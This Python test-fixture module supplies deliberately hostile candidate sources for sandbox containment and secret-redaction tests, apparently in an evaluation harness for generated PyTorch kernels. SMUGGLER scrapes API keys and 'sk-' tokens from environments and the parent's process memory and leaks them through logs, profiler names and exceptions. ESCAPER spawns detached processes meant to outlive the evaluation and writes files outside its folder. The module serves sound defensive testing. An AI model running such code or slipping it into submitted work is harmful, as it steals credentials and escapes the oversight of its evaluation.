"""Hostile candidate sources for the containment and secrets tests (contain.py, shield.py, redact.py).

`SMUGGLER`: reads every environment it can reach (its own, /proc/<parent>/environ, every
/proc/*/environ, the parent's memory through /proc/<parent>/mem) and smuggles whatever sits under
a name with KEY in it out through every route a candidate has: prints (the log tail), a profiler
range name (the `kind` check), a kernel-like name, and, with RAISE, an exception. It also prints
the SHA-256 of each value it found, which no scrubbing touches: the tests look for the key's hash
to tell whether the candidate could read the key at all.

`ESCAPER`: starts processes that try to outlive the evaluation (posix_spawn with setsid, a
double fork with setsid, Popen with a new session, a plain child) and writes files outside its
folder (/dev/shm, /tmp), each named after the test's tag; every step that fails is ignored.
"""

from __future__ import annotations

_HEAD = '''
import hashlib
import os
import re
import subprocess
import sys

import torch
import torch.nn as nn
'''

SMUGGLER = _HEAD + '''
RAISE = {raise_}


def _environs():
    found = {{}}
    texts = [b"\\0".join(k.encode() + b"=" + v.encode() for k, v in os.environ.items())]
    paths = ["/proc/self/environ", f"/proc/{{os.getppid()}}/environ"]
    paths += [f"/proc/{{p}}/environ" for p in os.listdir("/proc") if p.isdigit()]
    for path in paths:
        try:
            with open(path, "rb") as f:
                texts.append(f.read())
        except OSError:
            pass
    try:  # the parent's memory, where the environment block and Python's copy of it live
        with open(f"/proc/{{os.getppid()}}/maps") as maps, open(f"/proc/{{os.getppid()}}/mem", "rb") as mem:
            budget = 256 << 20
            for line in maps:
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" in line.split()[1] and hi - lo < 64 << 20 and budget > 0:
                    budget -= hi - lo
                    try:
                        mem.seek(lo)
                        texts.append(mem.read(hi - lo))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass
    for text in texts:
        for m in re.finditer(rb"([A-Z_]*KEY[A-Z_]*)=([^\\0\\s]{{8,200}})", text):
            found[m.group(1).decode(errors="replace")] = m.group(2).decode(errors="replace")
        for m in re.finditer(rb"sk-[A-Za-z0-9_-]{{16,120}}", text):
            found.setdefault("sk", m.group(0).decode(errors="replace"))
    return found


_FOUND = _environs()
_LOOT = ";".join(f"{{k}}={{v}}" for k, v in sorted(_FOUND.items()) if not set(v) <= {{"x"}})
for _k, _v in sorted(_FOUND.items()):
    print("found", _k, _v, "sha256", hashlib.sha256(_v.encode()).hexdigest(), flush=True)


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.{attr} = nn.Linear(features, features)

    def forward(self, x):
        if RAISE and _LOOT:
            raise RuntimeError("leaked " + _LOOT)
        hashes = "_".join(hashlib.sha256(v.encode()).hexdigest() for v in _FOUND.values())
        name = "kernel_" + re.sub(r"[^A-Za-z0-9_=;-]", "_", _LOOT or "nothing") + "_h" + hashes
        with torch.profiler.record_function(name):
            return torch.relu(self.{attr}(x))
'''

ESCAPER = _HEAD + '''
import time

TAG = os.environ.get("KERNELSWARM_TEST_TAG", "none")
HANG = {hang}
_started = []


def _escape():
    env = dict(os.environ)
    spin = [sys.executable, "-c", "import time\\nwhile True: time.sleep(0.05)"]
    for attempt in (
        lambda: os.posix_spawn(spin[0], spin, env, setsid=True),
        lambda: subprocess.Popen(spin, env=env, start_new_session=True),
        lambda: subprocess.Popen(["setsid", "-f"] + spin, env=env),
        lambda: subprocess.Popen(spin, env=env),
    ):
        try:
            attempt()
        except Exception:
            pass
    pid = os.fork()
    if pid == 0:  # a double fork, the middle one trying for a new session
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            os.execve(spin[0], spin, env)
        os._exit(0)
    os.waitpid(pid, 0)
    for folder in ("/dev/shm", "/tmp", "/var/tmp"):
        try:
            with open(f"{{folder}}/ks-escape-{{TAG}}", "wb") as f:
                f.write(b"x" * (8 << 20))
        except OSError:
            pass


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.{attr} = nn.Linear(features, features)

    def forward(self, x):
        if not _started:
            _started.append(1)
            _escape()
        while HANG:
            time.sleep(1)
        return torch.relu(self.{attr}(x))
'''


def smuggler(attr: str = "lin", raise_: bool = False) -> str:
    return SMUGGLER.format(attr=attr, raise_=raise_)


def escaper(attr: str = "lin", hang: bool = False) -> str:
    return ESCAPER.format(attr=attr, hang=hang)
